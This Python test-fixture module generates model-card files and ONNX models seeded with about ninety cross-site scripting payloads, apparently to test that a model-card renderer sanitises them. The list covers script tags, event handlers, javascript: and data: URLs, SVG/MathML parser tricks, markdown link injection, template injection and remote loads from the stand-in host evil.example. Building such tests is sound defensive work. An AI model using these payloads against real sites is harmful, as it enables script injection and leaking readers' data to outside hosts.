"""Cards that try to run a script in the reader's browser, or to make it ask another host for something."""

import json
from collections.abc import Iterator

from onnx import TensorProto, helper

VECTORS = tuple(
    vector.replace("\\x00", "\0").replace("\\n", "\n").replace("\\t", "\t")
    for vector in """\
<script>pwned()</script>
"><script>pwned()</script>
'><script>pwned()</script>
</title><script>pwned()</script>
</textarea></style></script><script>pwned()</script>
--><script>pwned()</script><!--
<ScRiPt>pwned()</sCrIpT>
<script/src=data:,pwned()></script>
<script src=//evil.example/x.js></script>
<scr<script>ipt>pwned()</scr</script>ipt>
<script\\n>pwned()</script\\n>
<<script>pwned();//<</script>
&lt;script&gt;pwned()&lt;/script&gt;
&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;
&#60;script&#62;pwned()&#60;/script&#62;
\\u003cscript\\u003epwned()\\u003c/script\\u003e
<img src=x onerror=pwned()>
"><img src=x onerror=pwned()>
" onmouseover=pwned() autofocus onfocus=pwned() x="
' onmouseover=pwned() autofocus onfocus=pwned() x='
<img src="x" onerror="pwned()"
<img/src/onerror=pwned()>
<img src=x:x onerror\\n=pwned()>
<img src=`x` onerror=pwned()>
<image src=x onerror=pwned()>
<img srcset="https://evil.example/a.png 1x" src=https://evil.example/b.png>
<svg onload=pwned()>
<svg><script>pwned()</script></svg>
<svg><script href=data:,pwned() /></svg>
<svg><animate onbegin=pwned() attributeName=x dur=1s>
<svg><a xlink:href="javascript:pwned()"><text y=20>svg link</text></a></svg>
<svg><style><img src=x onerror=pwned()></style></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">
<math href="javascript:pwned()">math link</math>
<math><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=pwned()>">
<template><script>pwned()</script></template>
<xmp><p title="</xmp><script>pwned()</script>">
<plaintext><script>pwned()</script>
<iframe src="javascript:parent.pwned()"></iframe>
<iframe srcdoc="<script>parent.pwned()</script>"></iframe>
<iframe src=https://evil.example/></iframe>
<object data="javascript:pwned()"></object>
<object data="data:text/html,<script>parent.pwned()</script>"></object>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned()'/>">
<body onload=pwned()>
<input autofocus onfocus=pwned()>
<select autofocus onfocus=pwned()><option>x</select>
<details open ontoggle=pwned()><summary>x</summary></details>
<video src=x onerror=pwned()></video>
<video poster=https://evil.example/p.png><source onerror=pwned()></video>
<audio src=https://evil.example/a.mp3 autoplay></audio>
<marquee onstart=pwned()>x</marquee>
<div style="animation-name:x" onanimationstart=pwned()>x</div>
<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/y.png) }</style>
<p style="background:url(https://evil.example/z.png);position:fixed;inset:0">x</p>
<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/p>
<meta http-equiv=refresh content="0;url=javascript:pwned()">
<base href=https://evil.example/>
<form action="javascript:pwned()"><button>go</button></form>
<a href="javascript:pwned()">link</a>
<a href=" &#14; javascript:pwned()">link</a>
<a href="java\\nscript:pwned()">link</a>
<a href="&#106;avascript&colon;pwned()">link</a>
<a href="data:text/html,<script>pwned()</script>">link</a>
<a href="vbscript:pwned()" ping=https://evil.example/ping>link</a>
[link](javascript:pwned())
[link](<java\\tscript:pwned()>)
[link](JaVaScRiPt&colon;pwned())
![a](javascript:pwned())
![a"onerror=pwned() x="](x)
![a](https://evil.example/i.png "t' onload=pwned() '")
[a](https://evil.example "x\\" onmouseover=pwned()")
[a]: javascript:pwned() "x"
<https://x.example/"onmouseover=pwned()>
<javascript:pwned()>
javascript:pwned()
data:text/html,<script>pwned()</script>
https://x.example/"><script>pwned()</script>
{{ pwned() }}{% raw %}{{ ''.__class__ }}
${pwned()}`${pwned()}`
<a id=config name=document$>x</a><form id=__md_scope><input name=pathname></form>
<p id=__config>{"base":"https://evil.example"}</p>
<b\\x00 onmouseover=pwned()>x\\x00<scr\\x00ipt>pwned()</script>
<!--><img src=x onerror=pwned()>-->
<![CDATA[<script>pwned()</script>]]>
<?xml version="1.0"?><script>pwned()</script>
""".splitlines()
)

BODY = """
Text {v} in a line.

{v}

## Heading {v}

- item {v}

> [!NOTE]
> {v}

| {v} | b |
|---|---|
| {v} | `{v}` |

[{v}](x) ![{v}](x.png) [x]({v}) ![x]({v}) [x](<{v}>) [x][r] <b>{v}</b> **{v}** [^n]

```{v}
{v}
```

```html
{v}
```

<details><summary>{v}</summary>

{v}
</details>

[r]: {v}
[^n]: {v}
"""


def make_cards() -> dict[str, str | bytes]:
    """A card for each vector, with it in every field; then each other format with all of them."""
    cards: dict[str, str | bytes] = {}
    for number, vector in enumerate(VECTORS):
        front = json.dumps(make_fields(f"{vector} n{number:02}", vector))
        cards[f"v{number:02}/README.md"] = f"---\n{front}\n---\n# {vector}\n{BODY.replace('{v}', vector)}"
        cards[f"v{number:02}/model.onnx"] = make_model(vector)
    lines = [vector.replace("\n", " ").replace("|", "") for vector in VECTORS]
    cards |= {
        "modelhub/config.json": json.dumps(make_modelhub(lines)),
        "zoo/README.md": "\n".join(make_zoo(lines)),
        "marketplace/README.md": "\n".join(make_marketplace(lines)),
        "plain.md": "\n\n".join(["# Plain", *lines]),
        "torn/README.md": f"---\n[: {lines[1]}\n---\n",
        "misfit/README.md": f"---\n{json.dumps({'version': [*VECTORS], 'id': {v: v for v in VECTORS}})}\n---\n",
        "<img src=x onerror=pwned()>/README.md": "# Odd folder",
        '"><svg onload=pwned()>.md': "[it](<img src=x onerror=pwned()>/README.md)",
    }
    return cards


def make_fields(name: str, v: str) -> dict[str, object]:
    """Front matter with `v` in every field there is, as value and as key."""
    metric = {"type": v, "name": v, "value": v, "config": v, "args": {v: v}}
    result = {"task": {"type": v, "name": v}, "dataset": {"type": v, "name": v, "split": v}, "metrics": [metric]}
    person = {"name": v, "org": v, "email": v, "orcid": v, v: v}
    return {
        "model_name": name,
        "summary": v,
        **dict.fromkeys(("id", "version", "license_name", "license_link", "pipeline_tag", "library_name"), v),
        **{key: [v, v] for key in ("license", "tags", "datasets", "metrics", "developers", "language", "base_model")},
        "thumbnail": f"https://evil.example/{v}",
        "dataset_links": {v: f"https://x.example/{v}"},
        "model-index": [{"name": v, "results": [{**result, "source": {"name": v, "url": v}}]}],
        "contributors": [person, {**person, "url": v}, {**person, "url": f"https://x.example/{v}"}],
        "general": [{v: v}, {"Link": f"[{v}](javascript:pwned())"}],
        "publication": [
            {"title": v, "authors": [v], "source": v, "year": v, "doi": v, "arxiv": v, "abstract": v, v: v},
            {"title": v, "url": f"https://x.example/{v}", "bibtex": f"@misc{{k, title={{{v}}}, url={{{v}}}}}"},
            {"bibtex": v},
        ],
        "structure": [{"kind": "url", "label": v, "url": v}, {"kind": v, "label": v, "url": "javascript:pwned()"}],
        "files": [{"name": v, "path": v, "size": v, "opset": v, "note": v, v: v}, {"name": v, "url": v}],
        "io": {"inputs": [{"name": v, "format": v, "shape": v, "dtype": v, "description": v, v: v}]},
        "api": {"request": {"url": v, "method": v, "headers": [{v: v}], "example": v}, "response": {"example": v}},
        "support": {"issues": v, "email": v, v: v, "site": f"https://x.example/{v}"},
        v: v,
        "other": {v: [v, {v: v}]},
    }


def make_model(text: str) -> bytes:
    """An ONNX file with `text` for every name in it."""
    value = helper.make_tensor_value_info(text, TensorProto.FLOAT, [text, 4])
    node = helper.make_node(text, [text], ["out"], domain=text)
    out = helper.make_tensor_value_info("out", TensorProto.FLOAT, None)
    graph = helper.make_graph([node], text, [value], [out])
    opsets = [helper.make_opsetid("", 13), helper.make_opsetid(text, 1)]
    return bytes(helper.make_model(graph, producer_name=text, opset_imports=opsets).SerializeToString())


def make_modelhub(lines: list[str]) -> dict[str, object]:
    text = " ".join(lines)
    return {
        "id": text,
        "meta": {"name": text, "application_area": text, **{line: line for line in lines}},
        "publication": {"title": text, "url": lines[0], "authors": text, "abstract": text, "bibtex": text},
        "model": {"description": text, "io": {"input": {"format": lines}, "output": [{"name": text}]}, "license": text},
    }


def make_zoo(lines: list[str]) -> Iterator[str]:
    yield f"# {lines[1]}\n\n## Description\n{lines[0]}\n\n## Model\n"
    yield "|Model|Download|ONNX version|Opset version|Top-1 accuracy (%)|\n|---|---|---|---|---|"
    yield from (f"|{line}|[{line}](x.onnx)|{line}|{line}|{line}|" for line in lines)
    yield f"\n## Dataset\n{lines[2]}\n\n## Contributors\n* {lines[0]}\n\n## License\n{lines[0]}"


def make_marketplace(lines: list[str]) -> Iterator[str]:
    yield f"# {lines[1]}\n\n## Overview\n\n{lines[0]}\n\n**General information of {lines[0]}**\n"
    yield "| Key | Value |\n|--|--|"
    yield from (f"| {line} | {line} |" for line in lines)
    yield "\n## Benchmarking\n\n| Datasets | Categories | Metrics: Values |\n|--|--|--|"
    yield from (f"| {line} | {line} | {line}: 24.7% |" for line in lines)
    yield f"\n## Usage\n\n* {lines[0]}\n\n## Model support\n"
    yield from (f"* {line}" for line in lines)
